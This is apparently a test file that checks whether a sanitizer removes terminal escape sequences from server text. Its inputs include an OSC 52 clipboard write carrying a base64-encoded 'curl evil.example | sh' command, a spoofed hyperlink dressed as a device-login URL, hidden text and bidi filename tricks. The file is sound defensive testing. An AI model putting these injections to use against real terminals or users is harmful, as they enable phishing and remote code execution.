import { describe, expect, it } from 'vitest'
import { MAX_SERVER_TEXT, sanitizeServerText } from '../../../src/log/sanitizeText.js'

const ESC = '\x1b'
/** Anything a terminal would act on: ESC, C0 but tab/LF, DEL, C1, bidi controls. */
const TERMINAL_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/

describe('finding 9: sanitizeServerText', () => {
  it.each([
    [
      'a clipboard write (OSC 52, BEL)',
      `Open the page${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 now`,
      'Open the page now',
    ],
    ['a clipboard write (OSC 52, ST)', `a${ESC}]52;c;ZXZpbA==${ESC}\\b`, 'ab'],
    [
      'a hyperlink whose target is not its text (OSC 8)',
      `open ${ESC}]8;;https://evil.example/${ESC}\\https://microsoft.com/devicelogin${ESC}]8;;${ESC}\\ and enter`,
      'open https://microsoft.com/devicelogin and enter',
    ],
    [
      'hidden text (SGR 8) and colours',
      `code ${ESC}[8mSECRETLY-HIDDEN${ESC}[0m ${ESC}[31mred${ESC}[0m`,
      'code SECRETLY-HIDDEN red',
    ],
    ['screen clearing and cursor moves', `${ESC}[2J${ESC}[H${ESC}[3Jfake prompt${ESC}[1A`, 'fake prompt'],
    ['a window title (OSC 0), unterminated', `x${ESC}]0;pwned`, 'x'],
    ['8-bit CSI and OSC (C1)', `a\x9b2Jb\x9d52;c;ZXZpbA==\x07c`, 'abc'],
    ['a DCS string', `a${ESC}Pq#0;2;0;0;0${ESC}\\b`, 'ab'],
    ['bidi overrides and isolates', 'user\u202e\u2066txt.exe\u2069\u202c code', 'usertxt.exe code'],
    ['other control characters; tabs stay', 'a\x00b\x07c\x08d\tz\x7f', 'abcd\tz'],
    [
      'a carriage return that overwrites the line',
      'To sign in, use a web browser\rSomething else',
      'To sign in, use a web browser Something else',
    ],
  ])('%s', (_name, hostile, shown) => {
    const clean = sanitizeServerText(hostile)
    expect(clean).toBe(shown)
    expect(clean).not.toMatch(TERMINAL_CONTROL)
  })

  it('keeps line feeds only when asked; CRLF becomes LF', () => {
    expect(sanitizeServerText('one\r\ntwo\nthree')).toBe('one two three')
    expect(sanitizeServerText('one\r\ntwo\nthree', { keepNewlines: true })).toBe('one\ntwo\nthree')
  })

  it('leaves ordinary text alone, Unicode included', () => {
    const text = 'AADSTS7000215: Invalid client secret provided. Trace ID: 0a1b… Größe ✓ 日本'
    expect(sanitizeServerText(text)).toBe(text)
  })

  it('cuts long text, saying how much was left out, never in the middle of a surrogate pair', () => {
    expect(sanitizeServerText('x'.repeat(MAX_SERVER_TEXT + 10))).toBe(
      `${'x'.repeat(MAX_SERVER_TEXT)}… (10 more characters)`,
    )
    const cut = sanitizeServerText(`${'a'.repeat(9)}😀tail`, { maxLength: 10 })
    expect(cut).toBe(`${'a'.repeat(9)}… (6 more characters)`)
  })

  it('takes linear time on a megabyte of unterminated escape sequences', () => {
    const hostile = `${ESC}]`.repeat(256 * 1024) + `${ESC}[`.repeat(256 * 1024)
    const started = performance.now()
    expect(sanitizeServerText(hostile, { maxLength: Infinity })).toBe('')
    expect(performance.now() - started).toBeLessThan(500)
  })
})
